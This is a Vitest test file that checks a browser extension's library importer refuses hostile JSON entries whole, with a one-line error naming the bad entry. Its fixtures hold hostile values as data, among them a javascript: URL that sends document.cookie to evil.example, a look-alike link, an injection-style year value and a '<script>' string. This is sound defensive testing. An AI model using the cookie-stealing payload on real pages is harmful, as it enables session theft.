// A hostile library file (issue 18, row E): the import refuses it whole, in one line naming the
// entry — one entry whose department is not text used to empty the library page for good, and
// any http(s) look-alike link was accepted. (The CLI reads no library files; the extension's
// library page imports through libraryFromJson and writes only what it returns, in one transaction.)
import { describe, expect, it } from 'vitest';
import { libraryFromJson, libraryToJson, type LibraryEntry } from '../../lib/extension/library';

const entry = (n: number): LibraryEntry => ({
  key: `部门${n}|dept-budget|2025`,
  department: `部门${n}`,
  kind: 'dept-budget',
  year: 2025,
  sourceUrl: `https://czj.example.gov.cn/${n}.pdf`,
  sourceName: `${n}.pdf`,
  checkedAt: '2026-01-01T00:00:00.000Z',
  summary: { pass: 3, rounding: 0, fail: 1, warn: 0, unverifiable: 0 },
  findings: [{ id: 'N1:1', rule: 'N1', status: 'fail', message: 'x', values: [] } as never],
  model: {
    source: { format: 'pdf' },
    info: { kind: 'dept-budget', year: 2025, department: `部门${n}`, pages: 1, textLayer: true },
    blocks: [],
    tables: [],
  },
});

function withEntry(patch: (e: Record<string, unknown>) => void): string {
  const file = JSON.parse(libraryToJson([entry(1), entry(2), entry(3)]));
  patch(file.entries[1]);
  return JSON.stringify(file);
}

const refusal = (text: string) => {
  try {
    libraryFromJson(text);
    return null;
  } catch (err) {
    return (err as Error).message;
  }
};

describe('a hostile library file', () => {
  it.each([
    ['a department that is not text', (e: Record<string, unknown>) => (e.department = { length: 1e9 }), /department/],
    [
      'a javascript: source link',
      (e: Record<string, unknown>) => (e.sourceUrl = 'javascript:fetch("//evil.example/"+document.cookie)'),
      /sourceUrl/,
    ],
    ['an http look-alike link', (e: Record<string, unknown>) => (e.sourceUrl = 'https:\\\\evil.example'), /sourceUrl/],
    ['a negative count', (e: Record<string, unknown>) => ((e.summary as Record<string, number>).fail = -5), /summary\.fail/],
    ['a year that is text', (e: Record<string, unknown>) => (e.year = '2025; drop'), /year/],
    ['a model without tables', (e: Record<string, unknown>) => delete (e.model as Record<string, unknown>).tables, /model\.tables/],
    ['bytes that are not base64', (e: Record<string, unknown>) => (e.bytes = '<script>'), /bytes/],
  ])('%s: refused whole, one line naming entry 2', (_name, patch, field) => {
    const message = refusal(withEntry(patch));
    expect(message).toMatch(/^entry 2 \(部门2\|dept-budget\|2025\) refused: /);
    expect(message).toMatch(field);
    expect(message).not.toContain('\n');
  });

  it('the same file untouched imports all three entries', () => {
    expect(libraryFromJson(withEntry(() => {})).map((e) => e.key)).toEqual([
      '部门1|dept-budget|2025',
      '部门2|dept-budget|2025',
      '部门3|dept-budget|2025',
    ]);
  });
});
